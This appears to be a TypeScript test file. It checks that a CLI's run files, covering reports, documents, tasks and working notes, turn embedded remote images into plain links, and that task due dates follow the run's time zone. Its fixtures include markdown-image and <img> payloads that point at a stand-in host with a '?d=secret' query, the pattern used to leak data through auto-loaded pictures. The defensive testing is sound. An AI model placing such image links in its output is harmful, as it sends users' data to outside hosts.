import { expect, test } from "vitest";
import { makeTask } from "../../test/helpers/cli-host.ts";
import { makeReport, makeWireRun } from "../../test/helpers/cli-runs.ts";
import { type RunOutput, routes } from "./api.ts";
import type { Api } from "./client.ts";
import { readRunFiles, readWorkingNotes } from "./run-files.ts";

const evil = "Look: ![pixel](https://evil.test/x.png?d=secret)\n\n<img src=https://evil.test/y.png>";

/** Three things, each with a picture from elsewhere in its text. */
const things = [
  makeTask({ kind: "document", title: "Page ![pixel](//evil.test/z.png)", content: evil }),
  makeTask({ kind: "goal", title: "Goal", content: "", description: evil }),
  makeTask({ kind: "task", title: "Task", content: evil, description: evil }),
].map((thing, n) => ({ ...thing, id: `0198c2b7-0000-7000-8000-00000000000${n}` }));

const api = (async (route: unknown, { params }: { params: { entityId?: string } }) => {
  if (route === routes.runParts.sources) return { items: [], next_cursor: null };
  if (route !== routes.runParts.outputs) return things.find(({ id }) => id === params.entityId);
  const items = things.map(({ id, kind }) => ({ id, kind, project_id: "p", op: "created", is_there: true }));
  return { items: items as unknown as RunOutput[], next_cursor: null };
}) as unknown as Api;

test("no file of a run loads a picture from elsewhere when it is opened: documents, tasks, report and working notes", async () => {
  const run = makeWireRun({ report: { ...makeReport(), summary: evil } });
  const files = [...(await readRunFiles(api, run, "https://own.test")), ...(await readWorkingNotes(api, run))];
  expect(files.map(({ name }) => name)).toEqual([
    "Report",
    "Goal",
    expect.any(String),
    "Tasks",
    "Task",
    "Goal",
    expect.any(String),
  ]);
  for (const { text } of files) {
    expect(text).toContain("[pixel: https://evil.test/x.png?d=secret](https://evil.test/x.png?d=secret)");
    expect(text).not.toMatch(/!\[pixel|(?<!\\)<img/);
  }
});

test("a task is due on the day of the run's own zone", async () => {
  const due = things.map((thing) => (thing.kind === "task" ? { ...thing, due_at: "2031-05-18T06:59:59Z" } : thing));
  const dueApi = (async (route: unknown, given: { params: { entityId?: string } }) =>
    route === routes.runParts.outputs || route === routes.runParts.sources
      ? api(route as never, given as never)
      : due.find(({ id }) => id === given.params.entityId)) as unknown as Api;
  const textIn = async (time_zone: string) =>
    (await readRunFiles(dueApi, makeWireRun({ time_zone }), "")).map(({ text }) => text).join();
  expect(await textIn("America/Los_Angeles")).toContain("(due 2031-05-17)");
  expect(await textIn("UTC")).toContain("(due 2031-05-18)");
});
